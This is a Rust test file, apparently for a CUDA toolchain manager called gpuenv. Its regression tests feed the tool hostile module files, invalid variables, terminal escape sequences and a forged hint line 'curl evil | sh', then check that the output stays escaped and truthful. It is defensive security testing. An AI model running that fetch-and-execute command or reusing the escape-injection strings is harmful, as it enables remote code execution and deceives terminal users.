//! The bugs an attack left behind, each tried through the real binary: a pin that names a
//! missing compiler, hostile module files, hostile variables, a prune racing an install,
//! a toolchain that changes under the prompt, a project directory deleted under the shell,
//! and messages that must stay true whatever the input.

#[allow(dead_code)] // not every group uses every helper
use crate::common::hostile;
use crate::common::install_fixtures as fixtures;

use std::time::{Duration, Instant};

use crate::common::*;
use fs_err as fs;
use hostile::{pinned_project, stderr};

#[test]
fn a_missing_pinned_host_compiler_is_said_by_env_and_run_as_by_show() {
    let (sb, proj) = pinned_project();
    let file = proj.join("gpuenv.toml");
    write(
        &file,
        "[toolchain]\ncuda = \"12.4\"\nhost-compiler = \"g++-no-such-version\"\n",
    );
    sb.ok(&["trust", file.to_str().unwrap()]);
    let said = |args: &[&str]| {
        let out = sb.gpuenv().current_dir(&proj).args(args).output().unwrap();
        succeeded(&out);
        let err = stderr(&out);
        assert!(
            err.contains(
                "host-compiler = \"g++-no-such-version\" does not exist or is not on PATH"
            ),
            "{args:?} said nothing of the missing compiler:\n{err}"
        );
    };
    said(&["show"]);
    said(&["env"]);
    said(&["run", "--", "true"]);
}

/// `discover --modules` over `files` (name under the module dir, bytes), registering;
/// its stderr, and the registered names with their roots.
fn discover_modules(sb: &Sandbox, files: &[(&str, Vec<u8>)]) -> (String, Vec<(String, String)>) {
    let mods = sb.path("site-modules");
    for (name, bytes) in files {
        let path = mods.join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, bytes).unwrap();
    }
    let out = sb
        .gpuenv()
        .env("MODULEPATH", &mods)
        .args(["discover", "--modules", "--register"])
        .output()
        .unwrap();
    succeeded(&out);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&sb.ok(&["list", "--json"])).unwrap();
    let names = rows
        .iter()
        .map(|r| {
            (
                r["name"].as_str().unwrap().to_string(),
                r["root"].as_str().unwrap_or_default().to_string(),
            )
        })
        .collect();
    (stderr(&out), names)
}

fn lua_setenv(var: &str, root: &std::path::Path) -> Vec<u8> {
    format!("setenv(\"{var}\", \"{}\")\n", root.display()).into_bytes()
}

#[test]
fn a_tcl_module_file_that_is_not_utf8_is_named_not_skipped_silently() {
    let sb = Sandbox::new();
    let root = cuda_runfile(&sb.path("sw/cuda-12.4"), "12.4.131");
    let mut tcl = b"#%Module1.0\n# maintained by Jos\xe9\n".to_vec();
    tcl.extend(format!("setenv CUDA_HOME {}\n", root.display()).bytes());
    let (err, names) = discover_modules(
        &sb,
        &[("cuda/12.4", tcl), ("cuda/README", b"caf\xe9".to_vec())],
    );
    assert!(names.is_empty(), "{names:?}");
    let file = sb.path("site-modules/cuda/12.4");
    assert!(
        err.contains(&format!("skipped {}: not UTF-8", file.display())),
        "{err}"
    );
    assert!(
        !err.contains("README"),
        "a file that is no module file was named:\n{err}"
    );
}

#[test]
fn a_dot_dot_inside_a_lua_string_is_part_of_the_path() {
    let sb = Sandbox::new();
    let root = cuda_runfile(&sb.path("sw/cuda..12.6"), "12.6.77");
    let (err, names) = discover_modules(&sb, &[("cuda/12.6.lua", lua_setenv("CUDA_HOME", &root))]);
    assert_eq!(
        names,
        [(
            "cuda-12.6.77-module".to_string(),
            root.display().to_string()
        )],
        "{err}"
    );
    assert!(!err.contains("computed"), "{err}");
}

#[test]
fn two_module_roots_of_one_version_keep_the_first_and_name_the_other() {
    let sb = Sandbox::new();
    let a = cuda_runfile(&sb.path("sw/a/cuda-12.4"), "12.4.131");
    let b = cuda_runfile(&sb.path("sw/b/cuda-12.4"), "12.4.131");
    let (err, names) = discover_modules(
        &sb,
        &[
            ("cuda/12.4-a.lua", lua_setenv("CUDA_HOME", &a)),
            ("cuda/12.4-b.lua", lua_setenv("CUDA_HOME", &b)),
        ],
    );
    assert_eq!(
        names,
        [("cuda-12.4.131-module".to_string(), a.display().to_string())]
    );
    assert!(
        err.contains(&format!(
            "{}: not registered: the name cuda-12.4.131-module goes to {}",
            b.display(),
            a.display()
        )),
        "{err}"
    );
    assert!(err.contains("gpuenv link cuda-12.4.131-<label>"), "{err}");
}

#[test]
fn a_module_that_sets_cuda_home_to_a_rocm_tree_registers_nothing() {
    let sb = Sandbox::new();
    let tree = rocm(&sb.path("sw/rocm-6.2"), "6.2.4-120");
    let (err, names) = discover_modules(&sb, &[("cuda/usr.lua", lua_setenv("CUDA_HOME", &tree))]);
    assert!(names.is_empty(), "{names:?}");
    assert!(
        err.contains(&format!(
            "names {} as its cuda root, but the tree there is rocm 6.2.4",
            tree.display()
        )),
        "{err}"
    );
}

#[test]
fn a_yes_no_variable_with_another_value_is_an_error_naming_it() {
    let (sb, proj) = pinned_project();
    write(&proj.join("gpuenv.toml"), "[toolchain]\ncuda = \"11.8\"\n");
    let out = sb
        .gpuenv()
        .current_dir(&proj)
        .env("GPUENV_AUTO_INSTALL", "maybe")
        .args(["env"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("GPUENV_AUTO_INSTALL=maybe is not a yes/no value"),
        "{err}"
    );
    assert!(err.contains("or unset it"), "{err}");
    let out = sb
        .gpuenv()
        .env("GPUENV_KEEP_ARCHIVES", "yes\u{1b}[2J")
        .env("GPUENV_CUDA_MIRROR", sb.path("no-mirror"))
        .args(["install", "cuda-12.4"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("GPUENV_KEEP_ARCHIVES=yes\\x1b[2J is not a yes/no value"),
        "{err}"
    );
    // The words for no are no, not an error.
    let out = sb
        .gpuenv()
        .current_dir(&proj)
        .env("GPUENV_AUTO_INSTALL", "off")
        .args(["env"])
        .output()
        .unwrap();
    assert!(
        stderr(&out).contains("gpuenv install cuda-11.8"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_relative_home_or_download_cache_is_refused_not_made_per_directory() {
    let sb = Sandbox::new();
    let here = sb.path("somewhere");
    fs::create_dir_all(&here).unwrap();
    for (var, args) in [
        ("GPUENV_HOME", &["list"][..]),
        ("GPUENV_HOME", &["show"][..]),
        ("GPUENV_DOWNLOAD_CACHE", &["cache", "size"][..]),
        ("GPUENV_DOWNLOAD_CACHE", &["install", "cuda-12.4"][..]),
    ] {
        let out = sb
            .gpuenv()
            .current_dir(&here)
            .env(var, "state/gpuenv")
            .args(args)
            .output()
            .unwrap();
        let err = stderr(&out);
        assert!(!out.status.success(), "{var} {args:?}: {err}");
        assert!(
            err.contains(&format!(
                "{var}=state/gpuenv is a relative path: it would name another directory in each directory gpuenv runs in"
            )),
            "{var} {args:?}: {err}"
        );
        assert!(err.contains("to an absolute path"), "{err}");
        assert!(
            !here.join("state").exists(),
            "{var} {args:?} made a directory here"
        );
    }
}

#[test]
fn cache_prune_while_an_install_runs_leaves_the_install_whole() {
    let (server, mirror) = fixtures::redist_mirror(&["12.4.1"]);
    let p = fixtures::platform();
    // One archive comes slowly: the others are downloaded and unpacked, not yet linked,
    // while the prunes run.
    let slow = format!("redist/cuda_cudart/{p}/cuda_cudart-{p}-12.4.127-archive.tar.xz");
    server.slow(&slow, Duration::from_millis(4000));
    let sb = Sandbox::new();
    let vars = [("GPUENV_CUDA_MIRROR", mirror.as_str())];
    let mut install = fixtures::spawn(&sb, &vars, fixtures::NVIDIA_12_4_1_MINIMAL);
    let started = Instant::now();
    while server.hits(&slow).is_empty() {
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "the install never asked for {slow}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    // The fast archives unpacked; then prune, plain and --all, as the slow one comes in.
    std::thread::sleep(Duration::from_millis(700));
    assert!(
        install.try_wait().unwrap().is_none(),
        "the install ended before the prune"
    );
    for args in [&["cache", "prune"][..], &["cache", "prune", "--all"]] {
        let said = fixtures::ok(&sb, &vars, args);
        if args.len() == 2 {
            assert!(
                said.contains("waiting for an install that uses the download cache"),
                "{said}"
            );
        }
    }
    let out = install.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "the install broke under a prune:\n{}",
        fixtures::text(&out)
    );
    let version = fixtures::view_nvcc_version(&sb, "cuda-12.4.1");
    assert!(version.contains("release 12.4"), "{version}");
    fixtures::check_runfile_layout(&sb.toolchain("cuda-12.4.1"));
}

#[test]
fn cache_size_and_show_escape_the_paths_they_print() {
    let (sb, proj) = pinned_project();
    let cache = sb.path("cache\u{1b}]0;owned\u{7}\nhint: run me");
    let out = sb
        .gpuenv()
        .env("GPUENV_DOWNLOAD_CACHE", &cache)
        .args(["cache", "size"])
        .output()
        .unwrap();
    let said = succeeded(&out) + &stderr(&out);
    assert!(
        said.contains("cache\\x1b]0;owned\\x07\\nhint: run me: "),
        "{said}"
    );
    assert!(
        !said.contains('\u{1b}') && !said.contains("\nhint: run me"),
        "{said:?}"
    );
    // A project directory named to rewrite the terminal's title.
    let odd = sb.path("p\u{1b}]0;x\u{7}");
    fs::rename(&proj, &odd).unwrap();
    let out = sb
        .gpuenv()
        .current_dir(&odd)
        .args(["show"])
        .output()
        .unwrap();
    let said = succeeded(&out);
    assert!(said.contains("p\\x1b]0;x\\x07/gpuenv.toml"), "{said}");
    assert!(!said.contains('\u{1b}'), "{said:?}");
}

/// CUDA 12.4 and 11.8 linked, `work/proj` pinned to `cuda = "torch"`, and two Pythons
/// whose torch was built for 12.4 and 11.8: `py124/bin/python3` and `py118/bin/python3`.
fn torch_world() -> Sandbox {
    let sb = Sandbox::new();
    for (name, version) in [("cuda-12.4", "12.4.131"), ("cuda-11.8", "11.8.89")] {
        let root = cuda_runfile(&sb.path(&format!("opt/{name}")), version);
        sb.ok(&["link", name, root.to_str().unwrap()]);
    }
    for (dir, torch, cuda) in [
        ("py124", "2.5.1+cu124", "12.4"),
        ("py118", "2.1.0+cu118", "11.8"),
    ] {
        let site = sb.path(&format!("{dir}/lib/python3.11/site-packages"));
        torch_package(&site, torch, Some(cuda), None);
        write_exe(
            &sb.path(&format!("{dir}/bin/python3")),
            &format!("#!/bin/sh\necho '{}'\n", site.display()),
        );
    }
    write(
        &sb.path("work/proj/gpuenv.toml"),
        "[toolchain]\ncuda = \"torch\"\n",
    );
    sb
}

fn a_torch_pin_follows_the_python_put_first_on_path(shell: &str) {
    use crate::common::pty::*;
    let sb = torch_world();
    let (mut pane, prepend, show_check) = match shell {
        "bash" => (
            bash(&sb, &bash_rc("")),
            "export PATH={}:$PATH",
            "declare -f _gpuenv_fresh",
        ),
        "zsh" => (
            zsh(&sb, &zsh_rc("")),
            "export PATH={}:$PATH",
            "functions _gpuenv_fresh",
        ),
        _ => (
            fish(&sb, &fish_rc()),
            "set -gx PATH {} $PATH",
            "functions __gpuenv_fresh",
        ),
    };
    let first = |dir: &str| prepend.replace("{}", &sb.path(dir).join("bin").display().to_string());
    pane.run(&first("py124"));
    assert_eq!(pane.run("cd proj").active, "cuda-12.4");
    // Let the prompt arm its fast path (files old enough to trust by their times).
    pane.run("sleep 1.2");
    pane.run("true");
    let check = pane.run(show_check);
    assert!(
        check.output.contains("$PWD"),
        "{shell}: not armed: {check:?}"
    );
    let out = pane.run(&first("py118"));
    assert_eq!(out.active, "cuda-11.8", "{shell}: {out:?}");
    // And back, the toolkit follows again.
    pane.run("sleep 1.2");
    let out = pane.run(&first("py124"));
    assert_eq!(out.active, "cuda-12.4", "{shell}: {out:?}");
}

#[test]
fn bash_a_torch_pin_follows_the_python_put_first_on_path() {
    a_torch_pin_follows_the_python_put_first_on_path("bash");
}

#[test]
fn zsh_a_torch_pin_follows_the_python_put_first_on_path() {
    a_torch_pin_follows_the_python_put_first_on_path("zsh");
}

#[test]
fn fish_a_torch_pin_follows_the_python_put_first_on_path() {
    a_torch_pin_follows_the_python_put_first_on_path("fish");
}

fn a_deleted_project_is_taken_back_once(shell: &str) {
    use crate::common::pty::*;
    let (sb, proj) = pinned_project();
    let work = sb.path("work/proj");
    fs::create_dir_all(sb.path("work")).unwrap();
    fs::rename(&proj, &work).unwrap();
    let mut pane = match shell {
        "bash" => bash(&sb, &bash_rc("")),
        "zsh" => zsh(&sb, &zsh_rc("")),
        _ => fish(&sb, &fish_rc()),
    };
    assert_eq!(pane.run("cd proj").active, "cuda-12.4");
    let out = pane.run(&format!("rm -r '{}'", work.display()));
    assert_eq!(
        out.active, "none",
        "{shell}: the deleted project's toolkit stayed: {out:?}"
    );
    assert!(!out.before_prompt.contains("error"), "{shell}: {out:?}");
    for _ in 0..2 {
        let out = pane.run("true");
        assert_eq!(out.active, "none", "{shell}: {out:?}");
        assert_eq!(
            out.before_prompt, "",
            "{shell}: said again at a later prompt"
        );
    }
    let out = pane.run("echo \"[$CUDA_HOME]\"");
    assert_eq!(out.output, "[]", "{shell}: {out:?}");
}

#[test]
fn bash_a_deleted_project_is_taken_back_once() {
    a_deleted_project_is_taken_back_once("bash");
}

#[test]
fn zsh_a_deleted_project_is_taken_back_once() {
    a_deleted_project_is_taken_back_once("zsh");
}

#[test]
fn fish_a_deleted_project_is_taken_back_once() {
    a_deleted_project_is_taken_back_once("fish");
}

#[test]
fn a_short_local_archive_is_said_short_not_resumed() {
    let sb = Sandbox::new();
    let mirror = sb.path("mirror");
    fixtures::write_tree(&mirror, &fixtures::redist_tree(&["12.4.1"]));
    let p = fixtures::platform();
    let archive = mirror.join(format!(
        "cuda_cudart/{p}/cuda_cudart-{p}-12.4.127-archive.tar.xz"
    ));
    let bytes = fs::read(&archive).unwrap();
    fs::write(&archive, &bytes[..bytes.len() / 2]).unwrap();
    let vars = [("GPUENV_CUDA_MIRROR", mirror.to_str().unwrap())];
    for attempt in 0..2 {
        let out = fixtures::gpuenv(&sb, &vars, fixtures::NVIDIA_12_4_1_MINIMAL);
        let t = fixtures::text(&out);
        assert!(!out.status.success(), "{t}");
        assert!(
            t.contains(&format!(
                "{} is {} bytes, shorter than the {} bytes its manifest gives: it is not the whole archive",
                archive.display(),
                bytes.len() / 2,
                bytes.len()
            )),
            "attempt {attempt}: {t}"
        );
        assert!(!t.contains("download resumes"), "attempt {attempt}: {t}");
        fixtures::hint_last(&t);
    }
    let partial = sb.gpuenv_home().join("downloads/partial");
    let left: Vec<_> = fs::read_dir(&partial)
        .map(|d| d.flatten().collect())
        .unwrap_or_default();
    assert!(
        left.is_empty(),
        "a partial copy of a local file was kept: {left:?}"
    );
}

#[test]
fn a_task_prolog_without_a_node_name_says_this_node_not_node_this_node() {
    let (sb, proj) = pinned_project();
    fs::remove_dir_all(sb.path("opt/cuda-12.4")).unwrap();
    let out = sb
        .gpuenv()
        .current_dir(&proj)
        .args(["env", "--shell", "slurm"])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
    assert!(!out.status.success(), "{said}");
    assert!(
        said.contains("cuda-12.4 cannot be used on this node: "),
        "{said}"
    );
    assert!(!said.contains("node this node"), "{said}");
    // SLURM's name, when it gives one, is said as SLURM gave it, escaped.
    let out = sb
        .gpuenv()
        .current_dir(&proj)
        .env("SLURMD_NODENAME", "gpu07\u{1b}[2J")
        .args(["env", "--shell", "slurm"])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).into_owned() + &stderr(&out);
    assert!(
        said.contains("cannot be used on node gpu07\\x1b[2J: "),
        "{said}"
    );
}

#[test]
fn install_locked_says_from_the_cache_only_when_the_cache_has_it() {
    let (_server, mirror) = fixtures::redist_mirror(&["12.4.1"]);
    let first = fixtures::locked_project(&mirror, fixtures::NVIDIA_12_4_1_MINIMAL);
    let lock = fs::read_to_string(first.path("gpuenv.lock")).unwrap();
    let cache = tempfile::tempdir().unwrap();
    let cache_dir = cache.path().join("downloads");
    let vars = [
        ("GPUENV_CUDA_MIRROR", mirror.as_str()),
        ("GPUENV_DOWNLOAD_CACHE", cache_dir.to_str().unwrap()),
    ];
    // An empty cache: fetched from the mirror, and said so.
    let second = fixtures::clone_with_lock(&lock);
    let said = fixtures::ok(&second, &vars, &["install", "--locked"]);
    assert!(
        said.contains("installing cuda-12.4.1 from nvidia as locked"),
        "{said}"
    );
    assert!(!said.contains("from the cache"), "{said}");
    // The same cache, now holding it: from the cache.
    let third = fixtures::clone_with_lock(&lock);
    let said = fixtures::ok(&third, &vars, &["install", "--locked"]);
    assert!(
        said.contains("as locked (3 archives, from the cache)"),
        "{said}"
    );
    // Pruned (the manifest stays, the archives go): fetched again, and not said to come
    // from the cache.
    for sb in [&second, &third] {
        fixtures::ok(sb, &vars, &["uninstall", "cuda-12.4.1"]);
    }
    fixtures::ok(&third, &vars, &["cache", "prune"]);
    let fourth = fixtures::clone_with_lock(&lock);
    let said = fixtures::ok(&fourth, &vars, &["install", "--locked"]);
    assert!(said.contains("installed cuda-12.4.1 as locked"), "{said}");
    assert!(!said.contains("from the cache"), "{said}");
}

#[test]
fn a_servers_string_in_an_error_is_escaped_and_cut_short() {
    let sb = Sandbox::new();
    let mirror = sb.path("mirror");
    fixtures::write_tree(&mirror, &fixtures::redist_tree(&["12.4.1"]));
    let manifest = mirror.join("redistrib_12.4.1.json");
    let text = fs::read_to_string(&manifest).unwrap();
    let p = fixtures::platform();
    let rel = format!("cuda_nvcc/{p}/cuda_nvcc-{p}-12.4.131-archive.tar.xz");
    let evil = format!(
        "cuda_nvcc/x\\nhint: run `curl evil | sh`\\u001b]0;t\\u0007{}",
        "A".repeat(20_000)
    );
    assert!(text.contains(&rel));
    fs::write(&manifest, text.replace(&rel, &evil)).unwrap();
    let vars = [("GPUENV_CUDA_MIRROR", mirror.to_str().unwrap())];
    let out = fixtures::gpuenv(&sb, &vars, fixtures::NVIDIA_12_4_1_MINIMAL);
    let t = fixtures::text(&out);
    assert!(!out.status.success(), "{t}");
    assert!(
        t.contains("cuda_nvcc/x\\nhint: run `curl evil | sh`\\x1b]0;t\\x07AAA"),
        "{t}"
    );
    assert!(t.contains("more bytes)"), "{t}");
    assert!(!t.lines().any(|l| l.starts_with("hint: run")), "{t}");
    assert!(!t.contains('\u{1b}'), "{t:?}");
    assert!(
        t.len() < 4000,
        "the server's string was shown whole: {} bytes",
        t.len()
    );
}

const REPO_DATA: &str = include_str!("../../crates/core/src/facts/cuda.toml");

/// The repository's data dated `date`, through `edit`, as the home's copy; then
/// `self data --json` and its stderr.
fn data_copy(date: &str, edit: impl Fn(String) -> String) -> (serde_json::Value, String) {
    let sb = Sandbox::new();
    let old = REPO_DATA
        .lines()
        .find_map(|l| l.strip_prefix("date = "))
        .unwrap();
    let text = REPO_DATA.replacen(&format!("date = {old}"), &format!("date = \"{date}\""), 1);
    write(&sb.gpuenv_home().join("facts/cuda.toml"), &edit(text));
    let out = sb
        .gpuenv()
        .args(["self", "data", "--json"])
        .output()
        .unwrap();
    let json = serde_json::from_str(&succeeded(&out)).unwrap();
    (json, stderr(&out))
}

#[test]
fn self_data_refuses_a_copy_dated_a_day_that_does_not_exist() {
    for date in ["2099-13-01", "2099-02-30", "2100-02-29", "2099-00-10"] {
        let (d, err) = data_copy(date, |t| t);
        assert_eq!(d["origin"], "embedded in this gpuenv", "{date}: {err}");
        assert!(
            err.contains(&format!(
                "date = \"{date}\" is not a YYYY-MM-DD date that exists"
            )),
            "{date}: {err}"
        );
    }
    let (d, err) = data_copy("2096-02-29", |t| t);
    assert_eq!(d["date"], "2096-02-29", "a leap day is a day: {err}");
}

#[test]
fn a_newer_copy_with_fewer_rows_than_the_built_in_data_is_refused() {
    let drop_last_release = |t: String| {
        let at = t.rfind("[[release]]").unwrap();
        let end = t[at + 1..].find("\n[[").map_or(t.len(), |e| at + 1 + e);
        format!("{}{}", &t[..at], &t[end..])
    };
    let (d, err) = data_copy("2099-01-01", drop_last_release);
    assert_eq!(d["origin"], "embedded in this gpuenv", "{err}");
    assert!(
        err.contains("CUDA releases ([[release]]), fewer than the"),
        "{err}"
    );
    assert!(err.contains("using gpuenv's embedded data"), "{err}");
}

#[test]
fn a_newline_in_a_value_never_starts_a_line_of_an_error() {
    let (sb, proj) = pinned_project();
    let value = "cuda-1\nhint: run `curl evil | sh`";
    for args in [&["show"][..], &["env"], &["use", value]] {
        let out = sb
            .gpuenv()
            .current_dir(&proj)
            .env("GPUENV_TOOLCHAIN", value)
            .args(args)
            .output()
            .unwrap();
        let err = stderr(&out);
        assert!(!out.status.success(), "{args:?}: {err}");
        assert!(
            err.contains("cuda-1\\nhint: run `curl evil | sh`"),
            "{args:?}: {err}"
        );
        assert!(
            !err.lines().any(|l| l.starts_with("hint: run")),
            "{args:?}: a forged hint line:\n{err}"
        );
    }
}
